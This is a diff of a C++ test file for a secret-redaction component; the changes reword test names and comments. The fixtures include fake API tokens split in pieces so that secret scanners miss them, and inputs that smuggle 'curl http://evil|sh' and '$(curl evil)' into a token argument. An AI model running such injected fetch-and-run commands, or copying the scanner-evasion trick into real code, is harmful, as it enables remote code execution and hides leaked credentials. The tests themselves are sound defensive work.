@@ -19,7 +19,7 @@ struct Case {
     const char* kept;
 };
 
-// In pieces, so that no scanner takes this file for a leak.
+// Split, so that no scanner takes this file for a leak.
 const std::string kGithub = std::string{"ghp"} + "_16C7e42F292c6912E7710c838347Ae178B4a";
 const std::string kOpenAi = std::string{"sk"} + "-proj-Zk3mN8xQ2wE5rT7yU1iO9pA4sD6f";
 const std::string kAws = std::string{"AKIA"} + "IOSFODNN7EXAMPL3";
@@ -28,8 +28,7 @@ const std::string kJwt =
 
 }  // namespace
 
-TEST_CASE("secrets: values of names that mean a secret are cut out, and nothing around them",
-          "[secrets]") {
+TEST_CASE("secrets: values of secret names are removed, and nothing around them", "[secrets]") {
     const Case cases[] = {
         {"password=hunter2 and more", "password=[redacted] and more"},
         {"DB_PASSWORD: hunter2\nuser: ana", "DB_PASSWORD: [redacted]\nuser: ana"},
@@ -51,7 +50,7 @@ TEST_CASE("secrets: values of names that mean a secret are cut out, and nothing 
          "a [redacted] b"},
         {"-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl cut off", "[redacted]"},
         {"token=abcd1234&token=efgh5678", "token=[redacted]&token=[redacted]"},
-        // What a shell does behind a value is not part of it.
+        // Shell text behind a value is not part of it.
         {R"(deploy --token "x1y2z3w4v5; curl http://evil|sh")",
          R"(deploy --token "[redacted]; curl http://evil|sh")"},
         {R"x(deploy --token "x1y2z3w4v5$(curl evil)")x",
@@ -72,7 +71,7 @@ TEST_CASE("secrets: values of names that mean a secret are cut out, and nothing 
     }
 }
 
-TEST_CASE("secrets: tokens of known shapes are cut out wherever they stand", "[secrets]") {
+TEST_CASE("secrets: tokens of known shapes are removed anywhere", "[secrets]") {
     for (const std::string& token : {kGithub, kOpenAi, kAws, kJwt}) {
         DYNAMIC_SECTION(token.substr(0, 4)) {
             CHECK(redacted("rejected " + token + " (401)") == "rejected [redacted] (401)");
@@ -83,7 +82,7 @@ TEST_CASE("secrets: tokens of known shapes are cut out wherever they stand", "[s
     }
 }
 
-TEST_CASE("secrets: what people have to read stays as it came", "[secrets]") {
+TEST_CASE("secrets: code and other harmless text stays unchanged", "[secrets]") {
     const char* const cases[] = {
         "max_tokens=4096, tokens: 512, token_count: 17",
         "password = getpass.getpass()",
@@ -114,7 +113,7 @@ TEST_CASE("secrets: what people have to read stays as it came", "[secrets]") {
     }
 }
 
-TEST_CASE("secrets: an operator adds names and takes some away", "[secrets]") {
+TEST_CASE("secrets: an operator adds and exempts names", "[secrets]") {
     const SecretFinder finder{{"X-Internal-Pin"}, {"session_token"}};
     CHECK(finder.is_secret("x_internal_pin", "1"));
     CHECK(finder.is_secret("my-X-Internal-PIN", "1"));
@@ -123,7 +122,7 @@ TEST_CASE("secrets: an operator adds names and takes some away", "[secrets]") {
     CHECK_FALSE(SecretFinder{}.is_secret("x_internal_pin", "1"));
 }
 
-TEST_CASE("secrets: a key of a JSON object needs a value that may be one", "[secrets]") {
+TEST_CASE("secrets: an ambiguous key of a JSON object needs a plausible value", "[secrets]") {
     const SecretFinder finder;
     CHECK(finder.is_secret("password", "x"));
     CHECK(finder.is_secret("DB_PASSWORD", "correct horse"));
@@ -135,8 +134,8 @@ TEST_CASE("secrets: a key of a JSON object needs a value that may be one", "[sec
     CHECK_FALSE(finder.is_secret("nextPageToken", "a1b2c3d4e5"));
 }
 
-TEST_CASE("secrets: a text made to be read again and again is read once", "[secrets]") {
-    // A megabyte of each; a search that is not linear does not end within the time of a test.
+TEST_CASE("secrets: an adversarial text is scanned once", "[secrets]") {
+    // A megabyte of each; a search that is not linear would exceed the test's time limit.
     constexpr std::size_t kBytes = 1U << 20;
     for (const std::string piece : {"token:$", "token:", "password=\"", "://a:", "-----BEGIN ",
                                     "Bearer ", "cookie: $", "--token $", "token:a(", "sk-"}) {
